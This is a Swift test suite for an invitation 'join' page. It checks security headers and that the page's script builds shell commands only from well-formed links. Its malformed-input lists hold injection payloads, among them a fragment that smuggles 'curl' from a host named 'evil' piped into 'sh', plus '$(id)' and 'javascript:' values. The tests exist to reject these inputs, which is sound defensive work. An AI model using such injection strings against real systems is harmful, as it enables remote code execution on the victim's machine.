import Foundation
import Testing
import TrolleyWire

@testable import TrolleyServer

@Suite("The page that an invitation's link opens", .timeLimit(.minutes(20)))
struct JoinPageTests {
    private static let secret = "mFqX0Zk3cXh1oV9sQe4rTy7uIw2pLa8sDf5gHj6kLzM"

    @Test("nothing inline is in it, nor allowed, and nobody may frame it")
    func policy() async throws {
        try await TestService.with { service in
            for (path, type) in [(Path.join, "html"), ("/join.css", "css"), ("/join.js", "javascript")] {
                let answer = try await service.call("GET", path)
                #expect(answer.status == 200 && answer.headers["content-type"] == "text/\(type); charset=utf-8")
                let policy = try #require(answer.headers["content-security-policy"])
                let directives = Set(policy.split(separator: ";").map { part in String(part.drop { $0 == " " }) })
                #expect(
                    directives == [
                        "default-src 'none'", "script-src 'self'", "style-src 'self'", "base-uri 'none'",
                        "form-action 'none'", "frame-ancestors 'none'",
                    ])
                #expect(answer.headers["x-content-type-options"] == "nosniff")
                #expect(answer.headers["referrer-policy"] == "no-referrer")
            }
            let page = try await service.call("GET", Path.join).text
            #expect(page.contains(#"<script src="join.js" defer></script>"#) && page.contains(#"href="join.css""#))
            #expect(page.matches(of: /<script|<style|style=|\son[a-z]+=|javascript:/).count == 1)
        }
    }

    @Test("a link as the service makes it becomes two commands")
    func commands() async throws {
        let shown = try await Self.shown("https://list.example.com:8443/sub/join", "#" + Self.secret)
        let link = "https://list.example.com:8443/sub/join#\(Self.secret)"
        #expect(shown.command == "trolley join '\(link)'")
        #expect(
            shown.signUp == """
                trolley sign-up https://list.example.com:8443/sub --email you@example.com --name You --invitation '\(link)'
                """)
        #expect(shown.isOffered)
        #expect(try await Self.shown("http://[::1]:8080/join", "#" + Self.secret).isOffered)
    }

    /// Fragments of the link: `SECRET` is a well-formed secret, `SHORT` lacks its last character.
    private static let malformed: [String] = [
        "", "#", "#AbC';curl${IFS}evil|sh;'", "#SECRET'", "#SECRETA", "#SHORT", "#SECRET\n", "#\nSECRET",
        "#SECRET\u{2028}", "#SHORTé", "##SECRET", "#SHORT ", "#SHORT`",
    ]

    @Test("anything else behind the '#' becomes no command", arguments: malformed)
    func malformedSecret(fragment: String) async throws {
        let fragment = fragment.replacing("SECRET", with: Self.secret).replacing(
            "SHORT", with: String(Self.secret.dropLast()))
        #expect(try await Self.shown("https://list.example.com/join", fragment) == Shown())
    }

    @Test(
        "nor does a page at another address",
        arguments: [
            "https://list.example.com/a';id;'/join", "https://list.example.com/$(id)/join",
            "https://list.example.com/joiN",
            "javascript:alert(1)//join", "https://u:p@list.example.com/join",
        ])
    func malformedAddress(page: String) async throws {
        #expect(try await Self.shown(page, "#" + Self.secret) == Shown())
    }

    private struct Shown: Hashable, Decodable {
        var command = ""
        var signUp = ""
        var isOffered = false
    }

    /// Runs the page's script in node, and reads the text that it would show.
    private static func shown(_ page: String, _ fragment: String) async throws -> Shown {
        let script = String(decoding: PackageResources.join_js, as: UTF8.self)
        let input = String(decoding: try JSONEncoder().encode([script, page, fragment]), as: UTF8.self)
        let program = """
            const [script, page, hash] = \(input);
            const parts = /^([a-z]+:\\/\\/[^\\/]*)?(.*)$/s.exec(page);
            const elements = {};
            for (const id of ["command", "sign-up", "invitation", "broken"]) elements[id] = {textContent: "", hidden: true};
            const location = {hash, origin: parts[1] || "null", pathname: parts[2], href: page + hash};
            require("vm").runInNewContext(script, {location, document: {getElementById: id => elements[id]}});
            console.log(JSON.stringify({
                command: elements["command"].textContent, signUp: elements["sign-up"].textContent,
                isOffered: !elements["invitation"].hidden}));
            """
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/usr/bin/env")
        process.arguments = ["node", "-e", program]
        let output = Pipe()
        process.standardOutput = output
        try process.run()
        let bytes = output.fileHandleForReading.readDataToEndOfFile()
        process.waitUntilExit()
        try #require(process.terminationStatus == 0)
        return try JSONDecoder().decode(Shown.self, from: bytes)
    }
}
